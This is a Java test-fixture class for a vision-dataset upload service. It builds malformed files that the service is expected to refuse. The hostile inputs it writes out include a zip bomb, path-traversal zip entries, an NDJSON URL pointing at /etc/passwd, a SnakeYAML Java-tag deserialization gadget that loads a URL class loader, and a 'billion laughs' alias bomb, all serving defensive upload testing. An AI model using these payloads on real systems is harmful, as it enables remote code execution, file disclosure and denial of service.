package io.visionplatform.dataset.testdata;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Uploads the dataset service must refuse, one file each. Every case, uploaded alone into a detect dataset with no
 * classes, makes the scan throw {@code UploadRejectedException}: directly (unsafe or unreadable archive, wrong NDJSON
 * header, non-image posing as an image) or because no usable image remains (its only image has a bad label, an
 * unsupported format, ...). Label cases carry a {@code data.yaml} naming classes {@code [a, b]}, so the label itself
 * is what is wrong.
 *
 * <p>
 * Each method writes into {@code dir} under a file name unique among the cases and returns the case; {@link #all}
 * writes them all (about 17 MiB on disk, most of it the entry-limit case) for parameterized upload tests.
 */
public final class MalformedUploads {

    /** One malformed upload: a short name for test reports and the file to send under its own file name. */
    public record Case(String name, Path file) {
        @Override
        public String toString() {
            return name;
        }
    }

    /** One entry more than {@code IngestLimits.defaults().maxEntries()}. */
    public static final int DEFAULT_MAX_ENTRIES_PLUS_ONE = 200_001;

    private static final byte[] TINY_JPEG = SyntheticDatasets.jpeg(32, 24, 7);
    private static final byte[] DATA_YAML = "names: [a, b]\n".getBytes(StandardCharsets.UTF_8);

    private MalformedUploads() {
    }

    /** All cases, written into {@code dir}. */
    public static List<Case> all(Path dir) {
        return List.of(truncatedZip(dir), zipBomb(dir), tooManyEntries(dir, DEFAULT_MAX_ENTRIES_PLUS_ONE),
                parentTraversalEntry(dir), absoluteEntry(dir), windowsDriveEntry(dir), backslashEntry(dir),
                nestedZip(dir), textNamedJpegInZip(dir), pngSignatureThenText(dir), classIdNotBelowNc(dir),
                negativeCoordinate(dir), coordinateAboveOne(dir), wrongValueCount(dir), nonNumericLabel(dir),
                nanCoordinate(dir), emptyZip(dir), zipWithOnlyDataYaml(dir), zipWithOnlyLabels(dir),
                zeroByteImage(dir), zeroByteZip(dir), ndjsonWrongTask(dir), ndjsonMalformedFirstLine(dir),
                ndjsonFileUrl(dir), cocoUnknownCategory(dir), notAZipNamedZip(dir), exePosingAsJpeg(dir),
                exeFile(dir), webpOnly(dir), yamlWithJavaTag(dir), yamlAliasBomb(dir));
    }

    /**
     * Not malformed as a whole: a YOLO zip ({@code data.yaml} names {@code [a, b]}) with three good labelled images
     * and three bad files — an image whose label has a class id ≥ nc and a PNG signature followed by text (both
     * reported by the scan), and a JPEG cut in half whose header still reads (it fails only when decoded in full).
     * The upload must keep the three good images and report the others.
     *
     * @param target the zip file to write
     */
    public static Path mixed(Path target) {
        Map<String, byte[]> entries = entries("data.yaml", DATA_YAML);
        for (int i = 1; i <= 3; i++) {
            entries.put("images/train/good" + i + ".jpg", SyntheticDatasets.jpeg(48, 32, i));
            entries.put("labels/train/good" + i + ".txt",
                    "0 0.5 0.5 0.25 0.25\n1 0.25 0.25 0.125 0.125\n".getBytes(StandardCharsets.UTF_8));
        }
        entries.put("images/train/bad-class.jpg", SyntheticDatasets.jpeg(48, 32, 4));
        entries.put("labels/train/bad-class.txt", "7 0.5 0.5 0.25 0.25\n".getBytes(StandardCharsets.UTF_8));
        entries.put("images/val/not-really.png", pngSignatureThenTextBytes());
        byte[] jpeg = SyntheticDatasets.jpeg(160, 120, 5);
        entries.put("images/val/truncated.jpg", Arrays.copyOf(jpeg, jpeg.length / 2));
        return SyntheticDatasets.writeZip(target, entries);
    }

    /** A valid YOLO zip cut short: its central directory is missing. */
    public static Case truncatedZip(Path dir) {
        Path zip = labelledZip(dir.resolve("truncated.zip"), "0 0.5 0.5 0.2 0.2\n");
        try {
            byte[] bytes = Files.readAllBytes(zip);
            Files.write(zip, Arrays.copyOf(bytes, bytes.length / 2));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return new Case("truncated zip", zip);
    }

    /** 64 MiB of zeros deflated to about 64 KiB (ratio ≈ 1000) under an image name. */
    public static Case zipBomb(Path dir) {
        Path file = dir.resolve("zip-bomb.zip");
        byte[] zeros = new byte[1 << 20];
        try (OutputStream out = Files.newOutputStream(file); ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("images/train/bomb.bmp"));
            for (int i = 0; i < 64; i++) {
                zip.write(zeros);
            }
            zip.closeEntry();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return new Case("zip bomb", file);
    }

    /**
     * {@code count} entries: one image and empty folders. With {@link #DEFAULT_MAX_ENTRIES_PLUS_ONE} it trips the
     * default entry limit (about 17 MiB on disk); unit tests may pass a smaller count with a smaller limit.
     */
    public static Case tooManyEntries(Path dir, int count) {
        Path file = dir.resolve("too-many-entries-" + count + ".zip");
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16);
                ZipOutputStream zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("images/a.jpg"));
            zip.write(TINY_JPEG);
            zip.closeEntry();
            for (int i = 1; i < count; i++) {
                // Stored empty folders: the smallest real entries (no data, no data descriptor).
                ZipEntry folder = new ZipEntry(Integer.toString(i, 36) + "/");
                folder.setMethod(ZipEntry.STORED);
                folder.setSize(0);
                folder.setCrc(0);
                zip.putNextEntry(folder);
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return new Case("too many entries (" + count + ")", file);
    }

    public static Case parentTraversalEntry(Path dir) {
        return zipCase(dir, "parent-traversal.zip", "entry ../evil.jpg", entries("../evil.jpg", TINY_JPEG));
    }

    public static Case absoluteEntry(Path dir) {
        return zipCase(dir, "absolute-entry.zip", "entry /etc/x.jpg", entries("/etc/x.jpg", TINY_JPEG));
    }

    public static Case windowsDriveEntry(Path dir) {
        return zipCase(dir, "windows-drive-entry.zip", "entry C:/x.jpg", entries("C:/x.jpg", TINY_JPEG));
    }

    public static Case backslashEntry(Path dir) {
        return zipCase(dir, "backslash-entry.zip", "entry images\\train\\x.jpg",
                entries("images\\train\\x.jpg", TINY_JPEG));
    }

    public static Case nestedZip(Path dir) {
        Map<String, byte[]> entries = entries("images/train/a.jpg", TINY_JPEG);
        entries.put("more/inner.zip", new byte[] { 'P', 'K', 5, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
                0, 0 });
        return zipCase(dir, "nested-zip.zip", "nested archive", entries);
    }

    /** A text file named .jpg beside a good image: a non-image posing as one refuses the whole upload. */
    public static Case textNamedJpegInZip(Path dir) {
        Map<String, byte[]> entries = entries("images/train/good.jpg", TINY_JPEG);
        entries.put("images/train/fake.jpg", "just some text, not a picture\n".getBytes(StandardCharsets.UTF_8));
        return zipCase(dir, "text-named-jpg.zip", "text file named .jpg in zip", entries);
    }

    /** The PNG signature followed by text: image magic, unreadable header. */
    public static Case pngSignatureThenText(Path dir) {
        return fileCase(dir, "png-signature-then-text.png", "PNG signature then text", pngSignatureThenTextBytes());
    }

    private static byte[] pngSignatureThenTextBytes() {
        byte[] signature = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n' };
        byte[] text = "this is not really a png at all".getBytes(StandardCharsets.UTF_8);
        byte[] bytes = Arrays.copyOf(signature, signature.length + text.length);
        System.arraycopy(text, 0, bytes, signature.length, text.length);
        return bytes;
    }

    public static Case classIdNotBelowNc(Path dir) {
        return labelCase(dir, "class-id-too-high.zip", "class id ≥ nc", "2 0.5 0.5 0.2 0.2\n");
    }

    public static Case negativeCoordinate(Path dir) {
        return labelCase(dir, "negative-coordinate.zip", "negative coordinate", "0 -0.1 0.5 0.2 0.2\n");
    }

    public static Case coordinateAboveOne(Path dir) {
        return labelCase(dir, "coordinate-above-one.zip", "coordinate > 1", "0 0.5 1.2 0.2 0.2\n");
    }

    public static Case wrongValueCount(Path dir) {
        return labelCase(dir, "wrong-value-count.zip", "wrong value count", "0 0.5 0.5 0.2\n");
    }

    public static Case nonNumericLabel(Path dir) {
        return labelCase(dir, "non-numeric-label.zip", "non-numeric label", "0 abc 0.5 0.2 0.2\n");
    }

    public static Case nanCoordinate(Path dir) {
        return labelCase(dir, "nan-coordinate.zip", "NaN coordinate", "0 nan 0.5 0.2 0.2\n");
    }

    /** A zip holding no entry at all: just the end-of-central-directory record. */
    public static Case emptyZip(Path dir) {
        byte[] end = new byte[22];
        end[0] = 'P';
        end[1] = 'K';
        end[2] = 5;
        end[3] = 6;
        return fileCase(dir, "empty.zip", "empty zip", end);
    }

    public static Case zipWithOnlyDataYaml(Path dir) {
        return zipCase(dir, "only-data-yaml.zip", "zip with only data.yaml", entries("data.yaml", DATA_YAML));
    }

    public static Case zipWithOnlyLabels(Path dir) {
        Map<String, byte[]> entries = entries("data.yaml", DATA_YAML);
        entries.put("labels/train/a.txt", "0 0.5 0.5 0.2 0.2\n".getBytes(StandardCharsets.UTF_8));
        return zipCase(dir, "only-labels.zip", "zip with labels but no images", entries);
    }

    public static Case zeroByteImage(Path dir) {
        return fileCase(dir, "zero-bytes.jpg", "0-byte file", new byte[0]);
    }

    public static Case zeroByteZip(Path dir) {
        return fileCase(dir, "zero-bytes.zip", "0-byte zip", new byte[0]);
    }

    public static Case ndjsonWrongTask(Path dir) {
        return fileCase(dir, "wrong-task.ndjson", "NDJSON for another task", ndjson("segment",
                "https://images.example.com/a.jpg"));
    }

    public static Case ndjsonMalformedFirstLine(Path dir) {
        String text = "{\"type\": \"dataset\", \"task\": \"detect\",\n"
                + imageLine("https://images.example.com/a.jpg") + "\n";
        return fileCase(dir, "malformed-header.ndjson", "NDJSON with a malformed first line",
                text.getBytes(StandardCharsets.UTF_8));
    }

    public static Case ndjsonFileUrl(Path dir) {
        return fileCase(dir, "file-url.ndjson", "NDJSON with a file:// URL", ndjson("detect", "file:///etc/passwd"));
    }

    /** A COCO zip whose only annotation names a category that is not listed. */
    public static Case cocoUnknownCategory(Path dir) {
        String json = """
                {"images": [{"id": 1, "file_name": "a.jpg", "width": 32, "height": 24}],
                 "annotations": [{"id": 1, "image_id": 1, "category_id": 99, "bbox": [1, 1, 10, 10], "iscrowd": 0}],
                 "categories": [{"id": 1, "name": "a"}]}
                """;
        Map<String, byte[]> entries = entries("images/a.jpg", TINY_JPEG);
        entries.put("annotations/instances_train.json", json.getBytes(StandardCharsets.UTF_8));
        return zipCase(dir, "coco-unknown-category.zip", "COCO with an unknown category", entries);
    }

    public static Case notAZipNamedZip(Path dir) {
        return fileCase(dir, "not-a-zip.zip", "not a zip, named .zip",
                "plain text, not an archive\n".getBytes(StandardCharsets.UTF_8));
    }

    /** A Windows executable (MZ header) named as a photo. */
    public static Case exePosingAsJpeg(Path dir) {
        return fileCase(dir, "holiday-photo.jpg", ".exe posing as .jpg", executableBytes());
    }

    public static Case exeFile(Path dir) {
        return fileCase(dir, "setup.exe", ".exe file", executableBytes());
    }

    /** A (signature-only) WebP: an image, but an unsupported format. */
    public static Case webpOnly(Path dir) {
        byte[] bytes = "RIFF\0\0\0\0WEBPVP8 ".getBytes(StandardCharsets.ISO_8859_1);
        return fileCase(dir, "picture.webp", "webp image", bytes);
    }

    /** A data.yaml asking SnakeYAML to build a Java object: must be refused, never constructed. */
    public static Case yamlWithJavaTag(Path dir) {
        Map<String, byte[]> entries = entries("data.yaml",
                "names: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n"
                        .getBytes(StandardCharsets.UTF_8));
        entries.put("images/train/a.jpg", TINY_JPEG);
        entries.put("labels/train/a.txt", "0 0.5 0.5 0.2 0.2\n".getBytes(StandardCharsets.UTF_8));
        return zipCase(dir, "yaml-java-tag.zip", "data.yaml with a Java type tag", entries);
    }

    /** A "billion laughs" data.yaml: nested aliases that would expand exponentially. */
    public static Case yamlAliasBomb(Path dir) {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        char previous = 'a';
        for (char name = 'b'; name <= 'k'; name++) {
            yaml.append(name).append(": &").append(name).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i == 0 ? "" : ",").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = name;
        }
        yaml.append("names: *k\n");
        Map<String, byte[]> entries = entries("data.yaml", yaml.toString().getBytes(StandardCharsets.UTF_8));
        entries.put("images/train/a.jpg", TINY_JPEG);
        entries.put("labels/train/a.txt", "0 0.5 0.5 0.2 0.2\n".getBytes(StandardCharsets.UTF_8));
        return zipCase(dir, "yaml-alias-bomb.zip", "data.yaml alias bomb", entries);
    }

    private static Case labelCase(Path dir, String fileName, String name, String label) {
        return new Case(name, labelledZip(dir.resolve(fileName), label));
    }

    /** data.yaml [a, b], one image, its label file holding {@code label}. */
    private static Path labelledZip(Path file, String label) {
        Map<String, byte[]> entries = entries("data.yaml", DATA_YAML);
        entries.put("images/train/a.jpg", TINY_JPEG);
        entries.put("labels/train/a.txt", label.getBytes(StandardCharsets.UTF_8));
        return SyntheticDatasets.writeZip(file, entries);
    }

    private static Map<String, byte[]> entries(String name, byte[] bytes) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put(name, bytes);
        return entries;
    }

    private static Case zipCase(Path dir, String fileName, String name, Map<String, byte[]> entries) {
        return new Case(name, SyntheticDatasets.writeZip(dir.resolve(fileName), entries));
    }

    private static Case fileCase(Path dir, String fileName, String name, byte[] bytes) {
        try {
            return new Case(name, Files.write(dir.resolve(fileName), bytes));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] ndjson(String task, String url) {
        String text = "{\"type\":\"dataset\",\"task\":\"" + task + "\",\"class_names\":{\"0\":\"a\",\"1\":\"b\"}}\n"
                + imageLine(url) + "\n";
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String imageLine(String url) {
        return "{\"type\":\"image\",\"file\":\"a.jpg\",\"url\":\"" + url + "\",\"width\":32,\"height\":24,"
                + "\"split\":\"train\",\"annotations\":{\"boxes\":[[0,0.5,0.5,0.2,0.2]]}}";
    }

    /** The start of a PE executable: MZ header and DOS stub text. */
    private static byte[] executableBytes() {
        byte[] bytes = new byte[512];
        bytes[0] = 'M';
        bytes[1] = 'Z';
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, bytes, 78, stub.length);
        return bytes;
    }
}
